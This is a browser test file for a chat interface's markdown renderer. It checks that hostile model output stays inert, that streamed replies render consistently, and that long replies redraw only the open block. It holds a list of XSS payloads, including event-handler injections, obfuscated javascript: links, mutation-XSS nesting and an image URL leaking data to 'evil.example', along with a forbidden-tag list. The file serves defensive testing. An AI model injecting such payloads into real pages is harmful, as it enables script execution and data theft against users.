"""Markdown of replies: hostile text stays text, a reply that grows is drawn as a whole one is, and only where it grows."""

import random
from pathlib import Path

from page_server import delta, end, said

DOCS = Path(__file__).parents[3] / "docs"
# What a model may say to reach the person's browser, keys or eyes; every piece must stay inert.
HOSTILE = r"""
<script>window.pwned = 1</script> <img src=x onerror="window.pwned=2"> <svg onload="window.pwned=3"><script>window.pwned=4</script></svg>

<iframe srcdoc="<script>parent.pwned=5</script>"></iframe><style>body { display: none }</style><base href="https://evil.example/">
<form action="https://evil.example"><input name=x autofocus onfocus="window.pwned=6"><button>Log in</button></form>
<a href="javascript:window.pwned=7">link</a> <math><mtext><table><mglyph><style><img src=x onerror=window.pwned=8></style></mglyph></table></mtext></math>

[one](javascript:window.pwned=9) [two](JaVaScRiPt&colon;window.pwned=10) [three](data:text/html,<script>1</script>)
[four](vbscript:x) [five](&#106;avascript:window.pwned=11) <javascript:window.pwned=12> [six](file:///etc/passwd)
[seven](//evil.example/x) [good](https://example.org/?a=1&b=2 "a title") [mail](mailto:a@example.org)

![secret](https://evil.example/leak.png?q=secret) ![x](data:image/svg+xml,<svg/onload=alert(1)>) ![](x" onerror="window.pwned=13)

| a | b |
|---|--:|
| <img src=x onerror=window.pwned=14> | `<b>` |

- [x] done <details open ontoggle=window.pwned=15><summary>s</summary></details>
- H<sub>2</sub>O <br> <mark onclick=window.pwned=16>m</mark> <u>u</u>

```html" onmouseover="window.pwned=17
<script>kept as it is</script> &amp; <!-- too -->
```

\(x_1^2 < y_2\) and $$\frac{<b>a</b>}{b}$$ <style id=x>*{color:red}</style> <p style="position:fixed;inset:0">over all</p>
<noscript><p title="</noscript><img src=x onerror=window.pwned=18>"></noscript>
"""
FORBIDDEN = "script, style, img, svg, math, iframe, object, embed, form, input, button:not(.icon-button), base, link, meta, details"


def test_hostile_markdown_is_inert(page, server):
    server.script = lambda body: [*said(HOSTILE), *end()]
    page.fill("#composer", HOSTILE)
    page.press("#composer", "Enter")
    page.locator("article.reply > .foot").wait_for()
    page.get_by_text("over all").first.wait_for()
    assert page.evaluate("window.pwned") is None
    forbidden = page.locator(".reply .markdown").locator(FORBIDDEN)
    assert forbidden.evaluate_all("found => found.filter((one) => !one.closest('.icon-button')).map((one) => one.outerHTML)") == []
    attributes = page.evaluate("""[...new Set([...document.querySelectorAll(".markdown *")].filter((one) => !one.closest(".icon-button"))
        .flatMap((one) => one.getAttributeNames()))].sort()""")
    assert attributes == ["align", "aria-label", "class", "href", "rel", "role", "tabindex", "target", "title"]
    links = page.locator(".reply .markdown a").evaluate_all("links => links.map((a) => a.href)")
    assert links == ["https://example.org/?a=1&b=2", "mailto:a@example.org", "https://evil.example/leak.png?q=secret"]
    safe = page.locator(".reply .markdown a").evaluate_all("links => links.every((a) => a.target === '_blank' && a.rel.includes('noreferrer'))")
    assert safe
    # Nothing was fetched: no image, no frame, and nothing from elsewhere.
    fetched = page.evaluate("performance.getEntriesByType('resource').map((entry) => new URL(entry.name))"
                            ".filter((url) => url.host !== location.host || /leak|[/]x$/.test(url.pathname)).map(String)")  # fmt: skip
    assert fetched == []
    text = page.locator(".reply .markdown").inner_text()
    for kept in ("<script>window.pwned = 1</script>", '<iframe srcdoc="<script>parent.pwned=5</script>"></iframe>',
                 "<script>kept as it is</script> &amp; <!-- too -->", r"\(x_1^2 < y_2\)", r"$$\frac{<b>a</b>}{b}$$",
                 "Image: secret (evil.example)", '<mark onclick=window.pwned=16>m'):  # fmt: skip
        assert kept in text, kept
    assert page.locator(".reply .markdown sub").inner_text() == "2"
    assert page.locator(".bubble").inner_text().strip() == HOSTILE.strip()  # a person's own text is text


def test_a_reply_that_grows_is_drawn_as_a_whole_one(page):
    difficult = ["36.", "1984.\n\nOr so.", "a\n---\nb", "- a\n\n  b\n- c\n\n\nd", "[x][1]\n\ntext\n\n[1]: https://example.org", "```\na\n\nb\n```\n~~~\nc",
                 "> a\nb\n\n> c", "| a | b |\n|---|---|\n| 1 | 2 |\n\nend", "1. a\n   ```py\n   b\n   ```\n2. c", "\r\na\r\n\r\nb\rc", "    code\n\n    more\n\nx",
                 "*open **both", "a\n\n<b>\n\nc", "$$\na_b_c\n$$\n\nd", "# a\n## b\n***\n", "- a\n- \n- b\n\n1) c", "\\[\nx\n\\]", ""]  # fmt: skip
    documents = difficult + [file.read_text("utf-8") for file in sorted(DOCS.glob("*.md"))[:8]]
    draw = random.Random(1)
    cuts = [sorted(draw.sample(range(len(text) + 1), min(len(text), 12))) for text in documents]
    cuts[: len(difficult)] = [list(range(len(text) + 1)) for text in difficult]  # each of its beginnings
    different = page.evaluate(
        """async ([documents, cuts]) => {
            const { markdownView } = await import("./markdown.js");
            const drawn = (node) => node.innerHTML.replace(/<div class="open">([\\s\\S]*)<\\/div>$/, "$1");
            return documents.filter((text, index) => {
                const grown = markdownView();
                for (const cut of cuts[index]) grown.update(text.slice(0, cut));
                const whole = markdownView();
                for (const view of [grown, whole]) { view.update(text); view.close(); }
                return drawn(grown.node) !== drawn(whole.node);
            });
        }""",
        [documents, cuts],
    )
    assert different == []
    lone = page.evaluate("""async () => { const { markdownView } = await import("./markdown.js");
        return ["36.", "1. one", "7) x\\n8) y"].map((text) => { const view = markdownView(); view.update(text); return view.node.querySelectorAll("li").length; }); }""")
    assert lone == [0, 1, 2]


def test_a_reply_of_twenty_thousand_tokens_redraws_only_its_open_block(page, server):
    paragraph = "The sea was calm and the lamp **turned** slowly over it. " * 12
    num_paragraphs = 120

    def script(body):
        yield from said("```python\n" + "print('one more line of code')\n" * 300 + "```\n\n")
        for number in range(num_paragraphs):
            yield delta(content=f"{number}: {paragraph}\n\n")
            yield 0.005
        yield from end(tokens=(10, 20000))

    server.script = script
    page.evaluate("""() => {
        window.told = { touched: 0, closed: new Set() };
        new MutationObserver((records) => {
            for (const record of records) {
                const target = record.target;
                if (!target.closest?.(".markdown")) continue;
                // Nothing inside a finished block changes: what is drawn anew is in the open place, or comes before it.
                if (target.className !== "markdown" && !target.closest(".open")) told.touched += 1;
                for (const node of record.addedNodes) if (target.className === "markdown" && node.nodeType === 1) told.closed.add(node);
            }
        }).observe(document.querySelector(".scroller"), { subtree: true, childList: true, characterData: true });
    }""")
    page.fill("#composer", "Write.")
    page.press("#composer", "Enter")
    page.locator("article.reply > .foot").wait_for()
    seen = page.evaluate("""() => ({ touched: told.touched, closed: told.closed.size, there: [...told.closed].every((node) => node.isConnected),
        blocks: document.querySelectorAll(".reply .markdown > p, .reply .open > p").length })""")
    assert seen == {"touched": 0, "closed": num_paragraphs, "there": True, "blocks": num_paragraphs}
    assert page.evaluate("(s => s.scrollHeight - s.scrollTop - s.clientHeight)(document.querySelector('.scroller'))") < 2
